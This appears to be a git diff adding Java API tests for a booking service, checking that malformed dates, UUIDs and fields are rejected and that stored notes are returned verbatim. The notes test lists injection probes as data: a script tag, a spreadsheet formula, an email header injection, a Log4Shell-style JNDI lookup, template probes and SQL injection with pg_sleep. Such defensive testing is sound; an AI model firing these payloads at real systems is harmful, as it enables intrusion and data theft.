@@ -54,6 +54,28 @@ class BookingInputTest {
                 Arguments.of("a huge year", "start", "\"+999999999-01-01T09:00:00+08:00\"", "/start"),
                 Arguments.of("an empty text", "start", "\"\"", "/start"),
                 Arguments.of("null where one is required", "start", "null", "/start"),
+                Arguments.of("a year before our time", "start", "\"-0001-01-01T09:00:00+08:00\"", "/start"),
+                Arguments.of("a year PostgreSQL cannot count", "start", "\"+294277-01-01T09:00:00+08:00\"", "/start"),
+                Arguments.of("an offset nobody has", "start", "\"2027-01-01T09:00:00-18:01\"", "/start"),
+                Arguments.of("a nanosecond", "end", "\"2027-01-01T09:00:00.000000001+08:00\"", "/end"),
+                Arguments.of("not a number", "expectedHeadCount", "\"NaN\"", "/expectedHeadCount"),
+                Arguments.of("minus infinity", "start", "-1e308", "/start"),
+                Arguments.of("an offset that is right and named otherwise", "zone", "\"Etc/GMT-8;x\"", "/zone"),
+                Arguments.of(
+                        "a braced UUID", "lecturerId", "\"{019a1b6e-5a10-7c3e-8f01-2a6b6c1d0001}\"", "/lecturerId"),
+                Arguments.of("a short UUID", "lecturerId", "\"1-1-1-1-1\"", "/lecturerId"),
+                Arguments.of("the nil UUID", "lecturerId", "\"00000000-0000-0000-0000-000000000000\"", "/lecturerId"),
+                Arguments.of("the greatest UUID", "branchId", "\"ffffffff-ffff-ffff-ffff-ffffffffffff\"", "/branchId"),
+                Arguments.of(
+                        "a UUID with a NUL", "topicId", "\"019a1b6e-5a10-7c3e-8f01-2a6b6c1d000\\u0000\"", "/topicId"),
+                Arguments.of(
+                        "a list of UUIDs", "lecturerId", "[\"019a1b6e-5a10-7c3e-8f01-2a6b6c1d0001\"]", "/lecturerId"),
+                Arguments.of("a hold that is none", "hold", "true", "/hold"),
+                Arguments.of("a hold until never", "hold", "{\"expiresAt\":\"infinity\"}", "/hold/expiresAt"),
+                Arguments.of(
+                        "a hold that is over", "hold", "{\"expiresAt\":\"2020-01-01T00:00:00Z\"}", "/hold/expiresAt"),
+                Arguments.of("an attempt to set who booked it", "createdBy", "\"root\"", "/createdBy"),
+                Arguments.of("an attempt to lift travel unasked", "travelLifted", "true", "/travelLifted"),
                 Arguments.of("seconds", "start", "\"2027-01-01T09:00:30+08:00\"", "/start"),
                 Arguments.of("a leap second", "start", "\"2026-12-31T23:59:60Z\"", "/start"),
                 Arguments.of("long ago", "start", "\"2016-01-01T09:00:00+08:00\"", "/start"),
@@ -272,8 +294,56 @@ class BookingInputTest {
 
     @Test
     void anIdThatIsNoneIsNotFound() {
+        for (String id : List.of(
+                "0",
+                "-1",
+                "9223372036854775808",
+                "1.0",
+                "%221%22",
+                "null",
+                "%5B%5D",
+                "%7B%7D",
+                "1-1-1-1-1",
+                "%7B019a1b6e-5a10-7c3e-8f01-2a6b6c1d0001%7D",
+                "019a1b6e-5a10-7c3e-8f01-2a6b6c1d0001%00",
+                "00000000-0000-0000-0000-000000000000",
+                "ffffffff-ffff-ffff-ffff-ffffffffffff")) {
+            organizer()
+                    .urlEncodingEnabled(false)
+                    .get("/api/v1/bookings/" + id)
+                    .then()
+                    .statusCode(404)
+                    .contentType("application/problem+json");
+        }
         organizer().get("/api/v1/bookings/17").then().statusCode(404).contentType("application/problem+json");
         organizer().urlEncodingEnabled(false).get("/api/v1/bookings/%00").then().statusCode(404);
+    }
+
+    @Test
+    void textsOfAllKindsAreKeptAsTheyCame() {
+        for (String text : List.of(
+                "<script>alert(1)</script>",
+                "=HYPERLINK(\"http://x\")",
+                "A\r\nBcc: evil@example.org",
+                "${jndi:ldap://x} {booking.customer} {{7*7}} %n%s",
+                "' OR 1=1--; select pg_sleep(10)",
+                "\u202Eright to left \u2028 line",
+                "e\u0301".repeat(500),
+                "👨‍👩‍👧‍👦".repeat(100))) {
+            Map<String, Object> body = lecture(city.cast(), at(61, 9), at(61, 11));
+            body.put("note", text);
+            String id = book(body).then().statusCode(201).extract().path("id");
+            organizer().get("/api/v1/bookings/{id}", id).then().statusCode(200).body("note", equalTo(text));
+        }
+    }
+
+    @Test
+    void aMinuteOfOverlapIsAClashAndNoneIsNot() {
+        City.Cast cast = city.cast();
+        book(lecture(cast, at(62, 9), at(62, 10))).then().statusCode(201);
+
+        book(lecture(cast, at(62, 9).plusMinutes(59), at(62, 11))).then().statusCode(409);
+        book(lecture(cast, at(62, 10), at(62, 11))).then().statusCode(201);
     }
 
     @Test
